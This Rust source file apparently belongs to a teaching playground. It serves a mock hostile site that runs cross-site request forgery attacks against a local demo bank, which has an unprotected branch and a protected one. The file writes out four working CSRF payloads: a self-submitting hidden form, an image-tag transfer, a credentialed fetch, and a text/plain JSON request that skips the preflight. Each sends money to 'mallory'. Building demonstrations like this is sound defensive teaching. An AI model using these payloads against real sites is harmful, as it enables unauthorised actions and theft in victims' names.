//! The hostile site: another port, another origin, the same browser. It knows nothing
//! of its victims and sends requests to the bank in the hope that they are logged in.

use std::sync::Arc;

use axum::Router;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use minijinja::{Value, context};
use sessile::templates::{Page, TemplateError, Templates};

use super::bank::{self, Bank, Branch};
use super::{playground, templates};

/// Whose account the attacks fill.
const THIEF: &str = "mallory";

/// What each attack takes, in euros.
const LOOT: u64 = 100;

/// One way to send a request in somebody else's name.
struct Attack {
    name: &'static str,
    title: &'static str,
    about: &'static str,
    /// What the page holds, with the address put in.
    code: &'static str,
}

const ATTACKS: [Attack; 4] = [
    Attack {
        name: "form",
        title: "A form that sends itself",
        about: "The classic. A hidden form posts to the bank the moment this page opens, and its \
                answer goes into a frame that nobody sees.",
        code: "<form method=\"post\" action=\"TARGET\">\n  <input name=\"to\" value=\"mallory\">\n  \
               <input name=\"amount\" value=\"100\">\n</form>\n<script>document.forms[0].submit()\
               </script>",
    },
    Attack {
        name: "image",
        title: "A picture",
        about: "Its address is the transfer. No script is needed: a mail or a forum that shows \
                pictures will do.",
        code: "<img src=\"TARGET?to=mallory&amount=100\">",
    },
    Attack {
        name: "fetch",
        title: "A script’s request",
        about: "fetch with credentials. The script may not read the answer; it need not.",
        code: "fetch(\"TARGET\", {\n  method: \"POST\", mode: \"no-cors\", credentials: \
               \"include\",\n  body: new URLSearchParams({to: \"mallory\", amount: 100}),\n})",
    },
    Attack {
        name: "json",
        title: "JSON that calls itself text",
        about: "For JSON the browser would ask the bank first (a preflight). For text/plain it \
                does not, and a careless server reads JSON all the same.",
        code: "fetch(\"TARGET\", {\n  method: \"POST\", mode: \"no-cors\", credentials: \
               \"include\",\n  headers: {\"Content-Type\": \"text/plain\"},\n  body: \
               '{\"to\": \"mallory\", \"amount\": 100}',\n})",
    },
];

struct Hostile {
    bank: Arc<Bank>,
    /// The bank's port.
    port: u16,
}

/// The site that attacks the bank on `port`.
pub(crate) fn router(bank: Arc<Bank>, port: u16) -> Result<Router, TemplateError> {
    let templates = Templates::from_sources(templates::HOSTILE)?;
    Ok(Router::new()
        .route("/", get(index))
        .route("/{attack}/{branch}", get(attack))
        .route("/attack.js", get(script))
        .route("/style.css", get(templates::style))
        .layer(templates.layer())
        .with_state(Arc::new(Hostile { bank, port })))
}

async fn index(State(hostile): State<Arc<Hostile>>, page: Page, headers: HeaderMap) -> Response {
    let loot = |branch| bank::euros(hostile.bank.taken(branch, THIEF));
    let attacks: Vec<Value> = ATTACKS
        .iter()
        .map(|it| context! { name => it.name, title => it.title, about => it.about })
        .collect();
    let values = context! {
        attacks => attacks,
        bank => playground::beside(&headers, hostile.port),
        open => loot(Branch::Open),
        guarded => loot(Branch::Guarded),
    };
    page.render("hostile.html", values).await
}

async fn attack(
    State(hostile): State<Arc<Hostile>>,
    Path((name, branch)): Path<(String, String)>,
    page: Page,
    headers: HeaderMap,
) -> Response {
    let attack = ATTACKS.iter().find(|attack| attack.name == name);
    let (path, statement) = match branch.as_str() {
        "unprotected" => (bank::OPEN, "/unprotected/bank"),
        "protected" => (bank::GUARDED, "/bank"),
        _ => return StatusCode::NOT_FOUND.into_response(),
    };
    let Some(attack) = attack else { return StatusCode::NOT_FOUND.into_response() };
    let bank = playground::beside(&headers, hostile.port);
    let target = format!("{bank}{path}");
    let values = context! {
        name => attack.name,
        title => attack.title,
        about => attack.about,
        code => attack.code.replace("TARGET", &target),
        branch => branch,
        target => target,
        statement => format!("{bank}{statement}"),
        thief => THIEF,
        loot => LOOT,
    };
    page.render("attack.html", values).await
}

async fn script() -> impl IntoResponse {
    ([(header::CONTENT_TYPE, "text/javascript; charset=utf-8")], include_str!("attack.js"))
}
